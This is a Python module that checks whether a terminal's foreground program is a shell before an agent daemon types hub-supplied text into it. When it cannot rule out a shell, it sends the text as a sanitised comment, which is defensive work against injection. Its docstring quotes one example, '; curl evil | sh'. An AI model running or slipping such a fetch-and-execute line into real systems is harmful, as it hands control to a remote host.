"""Who reads what the daemon types into a session: an agent, or a shell that would run it.

A delivery line is written for the program in the session: an agent CLI takes it as a prompt.
When the terminal's foreground program is a shell at its prompt instead (a session started
without a command, or the agent has exited), the same line would be *executed*, and its text
comes from the hub: ``; curl evil | sh`` would run. So before a line is typed, ``inspect``
finds the foreground program, and unless it is known not to be a shell the line is typed as
an inert comment (``as_comment``).

**The foreground program.** The terminal's foreground process group is the ``tpgid`` field of
``/proc/<pid>/stat`` of the session's process, whose controlling terminal is the pane.
(``tcgetpgrp()`` on the pane's tty does not work: Linux and the BSDs answer ENOTTY for a
terminal that is not the caller's controlling one, and the daemon's is not the pane's.) The
group's leader is the program, except that a shell running a command string or a script (the
session's ``sh -c`` wrapper, ``bash -lc cmd``) only waits for its child: such shells do no job
control, so the child stays in their group, and the child is looked at in turn.

**The decision** (``decide``, on any ``Processes``). A known shell, by process name or
``argv[0]``, is a shell at its prompt. A program that may relay input to a shell elsewhere
(ssh, sudo, su, a nested tmux, ...) counts as one too. Whatever cannot be read (no ``/proc``,
the session's process or the group's leader gone) gives "unknown", which is treated like a
shell: a comment is harmless anywhere, a command is not.

**The comment.** ``# `` starts a comment at an sh, bash, dash, ksh or fish prompt. zsh (unless
``interactivecomments`` is set) and tcsh do not take ``#`` as a comment at a prompt, so the text
also loses every character that means anything to a shell (separators, redirections, quotes,
``$``, backquotes, ``!``, parentheses, braces, backslashes): such a shell at worst reports that
there is no command ``#``.
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Literal, Protocol

import psutil

from orchestratia.agent.delivery.text import MAX_LINE, clean

SHELLS = frozenset((
    "sh", "bash", "rbash", "dash", "ash", "zsh", "fish", "ksh", "mksh", "pdksh", "oksh",
    "loksh", "yash", "posh", "csh", "tcsh", "nu", "xonsh", "elvish", "osh", "ysh", "pwsh",
))  # fmt: skip
# They hand the keyboard to a shell of their own, on another terminal or another machine.
RELAYS = frozenset(
    ("ssh", "mosh-client", "telnet", "sudo", "su", "doas", "script", "screen", "tmux")
)
_MAX_DEPTH = 8  # shells waiting for shells; deeper than this, stop and count it as a shell
_VERSION = re.compile(r"[\d.-]+$")  # ksh93, bash5.2, zsh-5.9
# Everything but letters, digits, space, a few harmless marks and non-ASCII text (which
# ``clean`` has already rid of controls): what is left cannot separate, redirect, substitute,
# quote, escape or recall history in any shell.
_SPECIAL = re.compile(r"[^A-Za-z0-9 .,:_/+@=%?*#\[\]~\u0080-\U0010ffff-]")

Kind = Literal["program", "shell", "relay", "unknown"]


@dataclass(frozen=True)
class Proc:
    """What the decision needs to know of one process."""

    pid: int
    name: str
    argv: tuple[str, ...]
    pgid: int


class Processes(Protocol):
    """The processes of this machine, as far as they can be read (``None``/``[]`` otherwise)."""

    def get(self, pid: int) -> Proc | None: ...
    def children(self, pid: int) -> list[Proc]: ...


@dataclass(frozen=True)
class Verdict:
    """The foreground program: ``what`` is its name, or for "unknown" why it is not known."""

    kind: Kind
    what: str = ""

    @property
    def plain(self) -> bool:
        """Whether a line may be typed as it is (the foreground is a program, not a shell)."""
        return self.kind == "program"

    @property
    def detail(self) -> str:
        """Why the line was typed as a comment, for the delivery's ack ("" if it was not)."""
        if self.kind == "shell":
            return f"typed as a comment: shell at prompt ({self.what})"
        if self.kind == "relay":
            return f"typed as a comment: {self.what} may relay it to a shell"
        if self.kind == "unknown":
            return f"typed as a comment: foreground program unknown ({self.what})"
        return ""


def as_comment(line: str) -> str:
    """``line`` as a shell comment that no shell would run anything of (module docstring)."""
    return "# " + clean(_SPECIAL.sub(" ", line.replace("'", "\u2019")), MAX_LINE)


def inspect(pid: int | None, processes: Processes | None = None) -> Verdict:
    """The foreground program of the terminal whose first process is ``pid``. Never raises;
    blocking (it reads ``/proc``), so call it in a thread."""
    if pid is None:
        return Verdict("unknown", "the session's process is not known")
    try:
        group = foreground_group(pid)
    except FileNotFoundError:
        why = "the session's process is gone" if os.path.isdir("/proc") else "no /proc"
        return Verdict("unknown", why)
    except (OSError, ValueError, IndexError) as exc:
        return Verdict("unknown", f"cannot read the terminal's foreground: {exc}")
    return decide(group, processes or SystemProcesses())


def foreground_group(pid: int) -> int:
    """The foreground process group of ``pid``'s controlling terminal (Linux ``/proc``)."""
    with open(f"/proc/{pid}/stat", "rb") as stat:
        data = stat.read()
    # pid (comm) state ppid pgrp session tty_nr tpgid ...; comm may hold spaces and ")".
    fields = data[data.rindex(b")") + 1 :].split()
    tty, tpgid = int(fields[4]), int(fields[5])
    if tty == 0 or tpgid <= 0:
        raise ValueError(f"process {pid} has no controlling terminal")
    return tpgid


def decide(group: int, processes: Processes) -> Verdict:
    """What the foreground process group ``group`` is (module docstring, "The decision")."""
    leader = processes.get(group)
    if leader is None:
        return Verdict("unknown", f"foreground group {group} has no leader")
    found = list(_readers(leader, group, processes, 0))
    for kind in ("shell", "relay"):
        named = [_kind_name(p) for p in found if _kind_name(p)[0] == kind]
        if named:
            return Verdict(kind, named[0][1])
    return Verdict("program", found[0].name)


def _readers(proc: Proc, group: int, processes: Processes, depth: int) -> Iterator[Proc]:
    # The processes of ``group`` that may read the terminal: ``proc``, or if it is a shell
    # waiting for children of the group, those children's readers.
    if depth < _MAX_DEPTH and _kind_name(proc)[0] == "shell" and _runs_command(proc.argv):
        children = [c for c in processes.children(proc.pid) if c.pgid == group]
        for child in children:
            yield from _readers(child, group, processes, depth + 1)
        if children:
            return
    yield proc


def _kind_name(proc: Proc) -> tuple[Kind, str]:
    names = [proc.name, os.path.basename(proc.argv[0]) if proc.argv else ""]
    if names[1] == "busybox" and len(proc.argv) > 1:  # `busybox sh`
        names.append(proc.argv[1])
    for raw in names:
        name = raw.lstrip("-")  # a login shell's argv[0] is "-bash"
        base = _VERSION.sub("", name) or name
        if name in SHELLS or base in SHELLS:
            return "shell", name
        if name in RELAYS or base in RELAYS:
            return "relay", name
    return "program", proc.name


def _runs_command(argv: tuple[str, ...]) -> bool:
    """Whether a shell's ``argv`` runs a command string (``-c``) or a script, rather than
    reading commands from the terminal. In doubt, no: an interactive shell is the safe guess."""
    args = iter(argv[1:])
    runs = False
    for arg in args:
        short = arg[1:] if arg[:1] == "-" and arg[1:2] != "-" else ""  # "-lc" -> "lc"
        if arg in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file", "-C", "--init-command"):
            next(args, None)  # the option's value
        elif arg == "--interactive" or "i" in short or "s" in short:
            return False  # interactive, or commands from standard input: the terminal
        elif arg.startswith("--command") or "c" in short:
            runs = True
        elif arg == "--":
            return runs or next(args, None) is not None
        elif not arg.startswith(("-", "+")):
            return True  # a script (or, after -c, the command string)
    return runs


class SystemProcesses:
    """``Processes`` read through psutil."""

    def get(self, pid: int) -> Proc | None:
        try:
            return _proc(psutil.Process(pid))
        except psutil.Error:
            return None

    def children(self, pid: int) -> list[Proc]:
        try:
            children = psutil.Process(pid).children()
        except psutil.Error:
            return []
        return [p for p in map(_proc, children) if p is not None]


def _proc(process: psutil.Process) -> Proc | None:
    try:
        with process.oneshot():
            argv = tuple(process.cmdline())
            return Proc(process.pid, process.name(), argv, os.getpgid(process.pid))
    except (psutil.Error, OSError):
        return None  # gone, a zombie, or not ours to read
